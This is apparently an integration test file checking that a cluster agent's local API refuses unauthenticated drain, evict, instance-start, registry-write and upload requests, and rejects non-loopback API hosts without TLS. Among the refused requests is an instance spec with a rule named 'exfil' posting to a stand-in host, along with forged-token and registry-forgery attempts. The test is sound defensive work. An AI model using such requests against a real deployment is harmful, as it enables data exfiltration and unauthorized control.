import { readFile, stat, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import { CLI, Cluster, waitFor } from '../helpers/cluster.ts'
import { NetLab } from '../helpers/netns.ts'
import { exec } from '../helpers/processes.ts'
import { publishAnomalyBundle } from '../helpers/scheduling.ts'

// Issue 14, "any local process: drain, evict, start an instance; api.host:
// 0.0.0.0": against real agent processes, what a process on the gateway
// without the node's token can and cannot do.

const cluster = await Cluster.create()
t.teardown(async () => { await cluster.close() })
const gw = await cluster.addNode('gw', {
  config: { sensors: [{ id: 'temp1', type: 'simulated', unit: '°C', waveform: 'sine', offset: 20, amplitude: 2, periodMs: 20_000, rateHz: 5 }] }
})
let digest: string
try {
  await cluster.start('gw')
  digest = await publishAnomalyBundle(cluster, 'gw')
} catch (err) {
  // a failed start must not leave the agent behind (teardowns do not run after a top-level throw)
  await cluster.close()
  throw err
}
/** the CLI as a local user without the token would run it: no node directory, no token in the environment */
const cli = async (...args: string[]): Promise<{ code: number, stdout: string, stderr: string }> => {
  const env = { ...process.env }
  delete env.GATEMESH_API_TOKEN
  return await exec(process.execPath, [CLI, ...args], { timeout: 60_000, env }).then(
    r => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
    (err: any) => ({ code: err.code ?? 1, stdout: err.stdout ?? '', stderr: err.stderr ?? '' }))
}

t.test('the token is in the node directory, readable by the agent\'s user only', async t => {
  t.equal((await stat(join(gw.dir, 'api.token'))).mode & 0o777, 0o600)
  t.match(await readFile(join(gw.dir, 'api.token'), 'utf8'), /^gma_[A-Za-z0-9_-]{43}\n$/)
})

t.test('without the token: no drain, no evict, no instance, no registry write, no upload', async t => {
  const anon = { anonymous: true }
  const self = gw.peerId
  const refused: Array<[string, string, unknown]> = [
    ['POST', '/v1/drain', undefined],
    ['POST', '/v1/deployments/anything/evict', undefined],
    ['POST', '/v1/instances', { bundle: digest, sensors: ['temp1'], spec: { rules: [{ name: 'exfil', when: 'true', actions: [{ type: 'http.post', url: 'http://203.0.113.9/' }] }] } }],
    ['PUT', `/v1/registry/instance/${self}/forged`, { value: { state: 'running' } }],
    ['PUT', `/v1/registry/placement/d1/${self}`, { value: { term: 1000, nodes: [self] } }],
    ['DELETE', `/v1/registry/node/${self}`, undefined],
    ['POST', `/v1/bundles/${digest}/pull`, undefined]
  ]
  for (const [method, path, body] of refused) {
    const res = await cluster.request('gw', method, path, body, anon)
    t.equal(res.status, 401, `${method} ${path}`)
    t.equal(res.body.code, 'ERR_UNAUTHENTICATED')
  }
  const upload = await fetch(`${gw.api}/v1/bundles`, { method: 'POST', headers: { 'content-type': 'application/zip' }, body: Buffer.alloc(1024) })
  t.equal(upload.status, 401, 'bundle upload')
  const forged = await fetch(`${gw.api}/v1/drain`, { method: 'POST', headers: { authorization: 'Bearer gma_' + 'A'.repeat(43) } })
  t.equal(forged.status, 401, 'a made-up token')

  t.same((await cluster.get('gw', '/v1/control')).drained, false, 'still accepting work')
  t.same((await cluster.get('gw', '/v1/control')).excluded, [], 'nothing evicted')
  t.same((await cluster.get('gw', '/v1/instances')).instances, [], 'no instance started')
  t.equal((await cluster.request('gw', 'GET', `/v1/registry/instance/${self}/forged`)).status, 404, 'no registry entry written')
  t.ok((await cluster.get('gw', `/v1/registry/node/${self}`)).value != null, 'its node record is still there')
})

t.test('reads and predict stay open on loopback', async t => {
  t.equal((await fetch(`${gw.api}/healthz`)).status, 200)
  t.equal((await fetch(`${gw.api}/v1/status`)).status, 200)
  t.equal((await fetch(`${gw.api}/metrics`)).status, 200)
})

t.test('the CLI without the token is refused and says where the token is; with --data it works', async t => {
  const refused = await cli('drain', '--api', gw.api)
  t.equal(refused.code, 1)
  t.match(refused.stderr, /--data DIR.*--token-file FILE.*GATEMESH_API_TOKEN/)
  t.same((await cluster.get('gw', '/v1/control')).drained, false)

  const drained = await cli('drain', '--data', gw.dir)
  t.equal(drained.code, 0, drained.stderr)
  t.match(drained.stdout, /drained/)
  t.same((await cluster.get('gw', '/v1/control')).drained, true)
  const viaEnv = await exec(process.execPath, [CLI, 'undrain', '--api', gw.api], { env: { ...process.env, GATEMESH_API_TOKEN: await cluster.token('gw') } })
  t.match(viaEnv.stdout, /accepting work/, 'GATEMESH_API_TOKEN works too')
  const status = await cli('status', '--api', gw.api, '--json')
  t.equal(status.code, 0, 'status only reads: no token needed')
})

t.test('with the token: evict, an instance and a registry write all work', async t => {
  const evict = await cluster.request('gw', 'POST', '/v1/deployments/anything/evict')
  t.equal(evict.status, 200)
  t.same(evict.body.excluded, ['anything'])
  t.equal((await cluster.request('gw', 'DELETE', '/v1/deployments/anything/evict')).status, 200)
  // starting an instance loads TF.js in workers: slow on a busy machine, so not through the 5 s helper
  const started = await fetch(`${gw.api}/v1/instances`, { method: 'POST', headers: { 'content-type': 'application/json', ...await cluster.auth('gw') }, body: JSON.stringify({ bundle: digest }), signal: AbortSignal.timeout(120_000) })
  const run = { status: started.status, body: await started.json() as { name?: string } }
  t.equal(run.status, 201, JSON.stringify(run.body))
  const stopped = await fetch(`${gw.api}/v1/instances/${String(run.body.name)}`, { method: 'DELETE', headers: await cluster.auth('gw'), signal: AbortSignal.timeout(60_000) })
  t.equal(stopped.status, 200)
  t.equal((await cluster.request('gw', 'PUT', `/v1/registry/instance/${gw.peerId}/mine`, { value: { ok: true } })).status, 200)
})

t.test('api.host beyond loopback is refused at start, naming the field', async t => {
  for (const host of ['0.0.0.0', '::', '192.168.1.10']) {
    await cluster.addNode(`open-${host}`, { bootstrap: [] })
    const node = cluster.node(`open-${host}`)
    const config = JSON.parse(await readFile(join(node.dir, 'config.json'), 'utf8'))
    config.api = { host, port: node.apiPort }
    await writeFile(join(node.dir, 'config.json'), JSON.stringify(config))
    const started = Date.now()
    const res = await cli('agent', '--data', node.dir)
    t.equal(res.code, 2, `${host}: exit 2 (configuration), after ${Date.now() - started} ms`)
    t.match(res.stderr, new RegExp(`config\\.api\\.host: "${host.replaceAll('.', '\\.')}" is not a loopback address.*config\\.api\\.tls`), host)
  }
})

t.test('an API on the LAN: TLS, and the token for everything but /healthz', async t => {
  const available = await NetLab.available()
  if (!available.ok) {
    t.comment(`skipped: network namespaces unavailable: ${available.reason}`)
    return
  }
  const lab = await NetLab.create(2)
  t.teardown(async () => { await lab.destroy() })
  const address = lab.address(0)
  const lan = await cluster.addNode('lan', { bootstrap: [], netns: { ns: lab.hosts[0]!, address } })
  const cert = join(lan.dir, 'api.crt')
  await exec('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-days', '1', '-subj', `/CN=${address}`, '-addext', `subjectAltName=IP:${address}`, '-keyout', join(lan.dir, 'api.key'), '-out', cert])
  const config = JSON.parse(await readFile(join(lan.dir, 'config.json'), 'utf8'))
  config.api = { host: address, port: 7401, tls: { cert: 'api.crt', key: 'api.key' } }
  await writeFile(join(lan.dir, 'config.json'), JSON.stringify(config))
  await cluster.start('lan', { wait: false })
  const info = await cluster.waitReady('lan')
  t.equal(info.api, `https://${address}:7401`)
  const token = await cluster.token('lan')
  // a client on another host of the LAN
  const from = async (method: string, path: string, auth: boolean): Promise<number> => {
    const code = `fetch(${JSON.stringify(info.api + path)}, { method: ${JSON.stringify(method)}, headers: ${JSON.stringify(auth ? { authorization: `Bearer ${token}` } : {})} }).then(r => console.log(r.status), e => { console.log('ERR ' + (e.cause?.code ?? e.message)) })`
    const out = await exec('ip', ['netns', 'exec', lab.hosts[1]!, process.execPath, '-e', code], { env: { ...process.env, NODE_EXTRA_CA_CERTS: cert }, timeout: 30_000 })
    return Number(out.stdout.trim())
  }
  await waitFor(async () => await from('GET', '/healthz', false) === 200, 'the LAN API to answer', 30_000, 500)
  t.equal(await from('GET', '/healthz', false), 200, '/healthz is open')
  t.equal(await from('GET', '/v1/status', false), 401, 'status needs the token from the LAN')
  t.equal(await from('GET', '/v1/status', true), 200)
  t.equal(await from('POST', '/v1/drain', false), 401)
  t.equal(await from('POST', '/v1/drain', true), 200)
  const plain = await exec('ip', ['netns', 'exec', lab.hosts[1]!, process.execPath, '-e', `fetch('http://${address}:7401/healthz').then(r => console.log(r.status), e => console.log('refused'))`], { timeout: 30_000 })
  t.not(plain.stdout.trim(), '200', 'no plain HTTP')
})
